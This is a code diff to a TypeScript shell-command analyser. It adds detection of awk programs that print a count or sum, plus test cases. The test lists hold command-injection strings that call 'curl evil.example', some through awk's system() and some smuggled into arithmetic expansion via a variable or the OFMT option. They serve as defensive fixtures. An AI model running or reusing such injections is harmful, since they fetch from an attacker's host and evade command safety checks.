@@ -619,7 +619,27 @@ function awk(call: Call): Partial<Answer> {
   // `awk '{print $1}'` reading stdin prints one field of each line: some of its characters, none added, so a count
   // stays a number (`wc -l | awk '{print $1}'`).
   const oneField = programs.length === 1 && operands.length === 0 && p.options.every((o) => o.name === 'F' || o.name === 'field-separator') && /^\s*\{\s*print\s+\$[1-9]\d*\s*;?\s*\}\s*$/.test(value(programs[0]!) ?? '');
-  return { runs, uses, ...(oneField ? { output: { kind: 'subset' as const } } : {}) };
+  // A count or a sum printed at the end (`awk '{s+=$1} END {print s}' f`, `awk 'END {print NR}'`, `/x/{n++} END{print
+  // n}`): a number as awk formats it, whatever the input (with no -v or operand setting OFMT or CONVFMT).
+  // (A count is an integer; a sum may be a fraction, or inf or nan.)
+  const sums = programs.length === 1 && p.options.every((o) => o.name === 'F' || o.name === 'field-separator') && operands.every((w) => value(w) !== undefined && !/^[A-Za-z_]\w*=/.test(value(w)!)) ? awkSum(value(programs[0]!)) : undefined;
+  return { runs, uses, ...(oneField ? { output: { kind: 'subset' as const } } : sums ? { output: { kind: 'number' as const, ...(sums === 'sum' ? { float: true as const } : {}) } } : {}) };
+}
+
+/**
+ * `[/RE/] { V += $N }` or `{ V++ }` then `END { print V }`, or only `END { print NR }`: what it prints is a number, a
+ * count (`NR`, `V++`) or a sum.
+ */
+function awkSum(text: string | undefined): 'count' | 'sum' | undefined {
+  if (text === undefined) return undefined;
+  const end = /^(.*?)\bEND\s*\{\s*print\s+([A-Za-z_]\w*)\s*;?\s*\}\s*$/s.exec(text);
+  if (!end) return undefined;
+  const [, body, printed] = end;
+  if (/^\s*$/.test(body!)) return printed === 'NR' ? 'count' : undefined;
+  const m = /^\s*(?:\/(?:[^/\\\n]|\\.)*\/\s*)?\{\s*([A-Za-z_]\w*)\s*(\+=\s*\$(?:[1-9]\d*|NF)|\+\+)\s*;?\s*\}\s*$/.exec(body!);
+  if (m === null || /^(?:NR|NF|FS|OFS|ORS|RS|OFMT|CONVFMT|SUBSEP|FILENAME|FNR|RSTART|RLENGTH|ENVIRON|ARGV|ARGC)$/.test(m[1]!)) return undefined;
+  if (printed === 'NR') return 'count';
+  return m[1] !== printed ? undefined : m[2] === '++' ? 'count' : 'sum';
 }
 
 // ── ed, ex, vim ────────────────────────────────────────────────────────────────────────────────────────
@@ -1242,6 +1262,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "gawk -W file=/dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'",
         "gawk -i /dev/stdin 'BEGIN { }' <<< 'BEGIN { system(\"curl evil.example\") }'",
         "original-awk 'BEGIN { system(\"curl evil.example\") }'",
+        "inf='a[$(curl evil.example)]'; echo $(( $(awk '{s+=$1} END {print s}' f) ))",
+        "echo $(( $(awk -v OFMT='a[$(curl evil.example)]' '{s+=$1} END {print s}' f) ))",
       ],
       pass: ["[[ $(find . -name '*.ts' | wc -l | awk '{print $1}') -gt 10 ]]", "echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
         "awk '{print $1}' notes.txt",
@@ -1257,6 +1279,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "mawk -W interactive '{ print $1 }' notes.txt",
         "gawk -i /dev/stdin 'BEGIN { }' <<< 'function f() { return 1 }'",
         "original-awk '{ print $1 }' notes.txt",
+        "echo $(( $(awk '{s+=$1} END {print s}' sizes.txt) + 1 ))",
+        "[[ $(awk '/ERROR/ {n++} END {print n}' app.log) -gt 0 ]]",
       ],
     },
   },
